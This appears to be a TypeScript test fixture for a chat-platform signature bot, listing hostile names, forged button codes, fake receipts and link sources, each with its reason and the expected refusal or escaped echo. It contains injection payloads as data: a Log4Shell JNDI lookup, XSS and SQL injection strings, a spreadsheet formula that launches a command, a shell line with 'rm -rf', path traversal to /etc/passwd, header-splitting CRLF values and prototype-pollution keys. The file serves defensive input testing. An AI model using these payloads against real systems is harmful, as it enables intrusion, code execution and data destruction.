/*
 * Hostile texts, presses and links, each with the reason and the required answer. None may change a signature or a
 * conversation.
 */

/** The text of an answer, by its message id. */
export type AnswerWords =
  | 'name-empty'
  | 'name-no-letter'
  | 'name-too-long'
  | 'name-control'
  | 'name-invisible'
  | 'name-unreadable'
  | 'name-marks'
  | 'name-address'
  | 'why-stale'
  | 'receipt-unknown';

/** A name that is typed at the name step. */
export interface HostileName {
  readonly input: string;
  readonly why: string;
  /** The reason of the refusal; or, if it is harmless as plain text, how it is shown back, unsigned. */
  readonly answer: AnswerWords | { readonly shown: string };
}

const shown = (text: string) => ({ shown: text });

/** Unusual code points, each in a name. */
export const NAMES: readonly HostileName[] = [
  {
    input: 'Amal\u0000Bennani',
    why: 'NUL ends a text in C, and PostgreSQL refuses it',
    answer: 'name-control',
  },
  {
    input: 'Amal \u001b[2J',
    why: 'an escape sequence clears the terminal of a reader',
    answer: 'name-control',
  },
  {
    input: 'Amal\u0008\u0008\u0008\u0008Nora',
    why: 'backspaces overwrite what was printed',
    answer: 'name-control',
  },
  { input: 'Amal \ud83d', why: 'half a character: no UTF-8 has it', answer: 'name-control' },
  { input: '\udc00\ud800', why: 'both halves, the wrong way round', answer: 'name-control' },
  { input: 'a'.repeat(3_900), why: 'longer than any name', answer: 'name-too-long' },
  { input: 'a'.repeat(101), why: 'one more than a name may have', answer: 'name-too-long' },
  { input: '𝒜'.repeat(100), why: 'exactly 100 characters and 400 bytes', answer: shown('𝒜'.repeat(100)) },
  {
    input: `${'𝒜'.repeat(99)}e\u0316\u0317`,
    why: '100 characters, but 401 bytes: one more than a sealed name has room for',
    answer: 'name-too-long',
  },
  { input: '\u202egnimra', why: 'turns the text around that follows it', answer: 'name-invisible' },
  { input: 'Amal\u2067\u2066x', why: 'isolates that nobody closes', answer: 'name-invisible' },
  { input: '\u200b\u200b\ufeff', why: 'nothing that anybody can see', answer: 'name-empty' },
  {
    input: '\u3164\u3164',
    why: 'a Hangul filler counts as a letter and shows nothing',
    answer: 'name-invisible',
  },
  { input: '\u2800\u2800', why: 'empty Braille cells', answer: 'name-invisible' },
  { input: 'Amal\u{e0041}\u{e0042}', why: 'a hidden message in tag characters', answer: 'name-invisible' },
  { input: 'Amal\ufffe', why: 'a noncharacter', answer: 'name-unreadable' },
  { input: '\u{f0000}mal', why: 'private use: each font shows what it likes', answer: 'name-unreadable' },
  {
    input: 'z\u0301\u0302\u0303\u0304\u0305\u0306algo',
    why: 'marks that pile up over the page',
    answer: 'name-marks',
  },
  { input: `a${'\u0301'.repeat(300)}`, why: 'one character that holds 600 bytes', answer: 'name-marks' },
  { input: '   \t \u00a0 ', why: 'white space alone', answer: 'name-empty' },
  { input: '🙂🙂', why: 'no letter', answer: 'name-no-letter' },
  { input: '-- -- ;;', why: 'the beginning of an SQL comment, and no letter', answer: 'name-no-letter' },
  { input: 'Amal 👩‍👩‍👧‍👦', why: 'four people joined into one character', answer: shown('Amal 👩‍👩‍👧‍👦') },
  { input: 'Ame\u0301lie', why: 'the twin of Amélie in other code points', answer: shown('Amélie') },
  {
    input: 'A\u030angstro\u0308m',
    why: 'the same with a letter that has a code point of its own',
    answer: shown('Ångström'),
  },
  { input: 'https://example.org/buy', why: 'an advertisement under a letter', answer: 'name-address' },
  {
    input: '$\u007bjndi:ldap://example.org/a}',
    why: 'Log4Shell: a logger that goes and fetches',
    answer: 'name-address',
  },
  { input: 'www.example.org', why: 'an address without its beginning', answer: 'name-address' },
  { input: '<script>alert(1)</script>', why: 'HTML that runs', answer: shown('<script>alert(1)</script>') },
  {
    input: '"><img src=x onerror=alert(1)>',
    why: 'HTML that leaves an attribute',
    answer: shown('"><img src=x onerror=alert(1)>'),
  },
  {
    input: '</b></code>&lt;b&gt;',
    why: 'closes what we opened, with entities of its own',
    answer: shown('</b></code>&lt;b&gt;'),
  },
  {
    input: '[Amal](tg://user?id=1)',
    why: 'a link that mentions a person on Telegram',
    answer: 'name-address',
  },
  {
    input: '**Amal** _Nora_ ~x~ `y` ||z||',
    why: 'the marks of every Markdown',
    answer: shown('**Amal** _Nora_ ~x~ `y` ||z||'),
  },
  {
    input: '@everyone <@123456789012345678>',
    why: 'rings a whole server on Discord',
    answer: 'name-address',
  },
  {
    input: '<!channel> <@U012AB3CD>',
    why: 'rings a whole workspace on Slack',
    answer: 'name-address',
  },
  {
    input: "Robert'); DROP TABLE signatures;--",
    why: 'SQL',
    answer: shown("Robert'); DROP TABLE signatures;--"),
  },
  {
    input: '%s%s%n %x {0} {{7*7}} #{7*7} <%= 7*7 %>',
    why: 'format strings and templates',
    answer: shown('%s%s%n %x {0} {{7*7}} #{7*7} <%= 7*7 %>'),
  },
  {
    input: '{ $name } { DATETIME($x) }',
    why: 'a placeable of the words’ own language',
    answer: shown('{ $name } { DATETIME($x) }'),
  },
  {
    input: "=cmd|'/C calc'!A0",
    why: 'a formula where a list is opened as a table',
    answer: shown("=cmd|'/C calc'!A0"),
  },
  { input: '__proto__', why: 'the key that changes every object', answer: shown('__proto__') },
  {
    input: '{"__proto__":{"admin":true}}',
    why: 'the same as JSON',
    answer: shown('{"__proto__":{"admin":true}}'),
  },
  { input: 'constructor', why: 'a word that every object knows', answer: shown('constructor') },
  { input: '../../../etc/passwd', why: 'leads out of a folder', answer: shown('../../../etc/passwd') },
  {
    input: 'Amal\r\nBcc: everybody',
    why: 'a line of its own in a header or a log',
    answer: shown('Amal Bcc: everybody'),
  },
  {
    input: 'Amal\u2028Nora\u0085Samira',
    why: 'line breaks that few think of',
    answer: shown('Amal Nora Samira'),
  },
  { input: '; rm -rf $(pwd) `id` && true', why: 'a shell', answer: shown('; rm -rf $(pwd) `id` && true') },
  { input: 'null', why: 'a word that programs take for nothing', answer: shown('null') },
  { input: 'Аmаl', why: 'Cyrillic letters that look Latin: a name all the same', answer: shown('Аmаl') },
];

/** The buttons that a forger has: their own, and one from another person. */
export interface Sight {
  /** The scope in this person's own buttons. */
  readonly tag: string;
  /** The revision of the current screen. */
  readonly revision: number;
  /** A button of an earlier screen of their own. */
  readonly old: string;
  /** Another person's button that would sign, from their current screen. */
  readonly stranger: string;
}

/** A code as if a button had carried it. */
export interface HostileCode {
  readonly code: (sight: Sight) => string;
  readonly why: string;
}

const now = ({ tag, revision }: Sight) => `${tag}${revision.toString(36)}`;

/** The answer to all: the button belongs to an earlier message, and the current step again. */
export const CODES: readonly HostileCode[] = [
  { code: () => '', why: 'no code at all' },
  { code: () => 'nonsense', why: 'none of ours' },
  { code: () => '\u0000', why: 'NUL' },
  { code: () => '🙂'.repeat(50), why: '200 bytes in 50 characters' },
  { code: () => 'x'.repeat(250), why: 'far longer than a button carries' },
  { code: ({ stranger }) => stranger, why: 'another person’s button' },
  { code: ({ old }) => old, why: 'a button of a screen that is gone' },
  { code: ({ revision }) => `AAAAAA${revision.toString(36)}.name.anonymous`, why: 'a tag that was guessed' },
  { code: ({ tag, revision }) => `${tag}${(revision + 1).toString(36)}.name.anonymous`, why: 'the future' },
  { code: ({ tag }) => `${tag}0.name.anonymous`, why: 'before the beginning' },
  { code: ({ tag }) => `${tag}-1.name.anonymous`, why: 'a negative revision' },
  { code: ({ tag }) => `${tag}zzzzzzzzzzz.name.anonymous`, why: 'a number past what a double holds' },
  { code: ({ tag }) => `${tag}1e9.name.anonymous`, why: 'a number as only some parsers read it' },
  { code: ({ tag, revision }) => `${tag}0${revision.toString(36)}.name.anonymous`, why: 'a zero in front' },
  { code: (sight) => `${now(sight)}.consent.agree`, why: 'another step’s button at this revision' },
  { code: (sight) => `${now(sight)}.name.sign`, why: 'an action that reads well and that no button has' },
  { code: (sight) => `${now(sight)}.name.typed`, why: 'signs under a name that was not typed' },
  { code: (sight) => `${now(sight)}.name.constructor`, why: 'an action that every object has' },
  { code: (sight) => `${now(sight)}.constructor.name`, why: 'a step that every object has' },
  { code: (sight) => `${now(sight)}.name.__proto__`, why: 'the key that changes every object' },
  { code: (sight) => `${now(sight)}.note.withdraw`, why: 'the button of a note that was never shown' },
  {
    code: (sight) => `${now(sight)}.name.anonymous\r\n`,
    why: 'the right button with a line break behind it',
  },
  { code: (sight) => ` ${now(sight)}.name.anonymous`, why: 'the right button with a space before it' },
  { code: (sight) => `${now(sight)}.name.anonymous`.toUpperCase(), why: 'the right button in capitals' },
  { code: (sight) => `${now(sight)}.name.anonymous.../../etc/passwd`, why: 'leads out of a folder' },
  { code: () => '{"step":"name","action":"anonymous"}', why: 'JSON' },
];

/** A receipt that is typed after the withdrawal command; `valid` is the receipt of a real signature. */
export interface HostileReceipt {
  readonly receipt: (valid: string) => string;
  readonly why: string;
}

/** The answer to all: there is no signature with this receipt. */
export const RECEIPTS: readonly HostileReceipt[] = [
  { receipt: () => 'AAAAA-AAAAA-AAAAA-AAAAA', why: 'well formed, and a guess' },
  { receipt: (valid) => valid.slice(0, -1), why: 'all but the last letter' },
  {
    receipt: (valid) => (valid.endsWith('7') ? `${valid.slice(0, -1)}8` : `${valid.slice(0, -1)}7`),
    why: 'one letter off',
  },
  { receipt: (valid) => [...valid].reverse().join(''), why: 'backwards' },
  { receipt: (valid) => `${valid}${valid}`, why: 'twice' },
  { receipt: (valid) => `${valid}\r\nSet-Cookie:x=1`, why: 'a line of its own in a header' },
  { receipt: (valid) => `${valid}\u0000`, why: 'NUL behind it' },
  { receipt: (valid) => `${valid}' OR '1'='1`, why: 'SQL' },
  { receipt: () => '%', why: 'LIKE’s word for everything' },
  { receipt: () => '*'.repeat(20), why: 'a pattern of the right length' },
  { receipt: () => '__proto__', why: 'the key that changes every object' },
  { receipt: () => '[object Object]', why: 'what an object becomes by mistake' },
  { receipt: () => '٠'.repeat(20), why: 'digits of another script' },
  { receipt: () => '\ud800'.repeat(20), why: 'halves of characters' },
  { receipt: () => 'A'.repeat(3_900), why: 'longer than any receipt' },
];

/** Unexpected messages, on platforms that allow them. The answer points to the buttons. */
export const TEXTS: readonly string[] = [
  '\u0000',
  '\ud800',
  'x'.repeat(3_900),
  '\u202egnimra',
  'z\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(100),
  '<script>alert(1)</script>',
  "'; DROP TABLE signatures;--",
  '{"kind":"command","command":"withdraw"}',
  '__proto__',
  '@everyone <!channel>',
];

/** Forged source codes in links. They are dropped: the content does not name them and we did not sign them. */
export const SOURCES: readonly string[] = [
  'x'.repeat(64),
  'x'.repeat(65),
  'x'.repeat(3_000),
  '__proto__',
  'constructor',
  'at-00000000000000000000-0000000000',
  'at-',
  '../../etc/passwd',
  'poster%0d%0aSet-Cookie:x=1',
  "poster' OR '1'='1",
  'poster\u0000',
  '🙂',
];
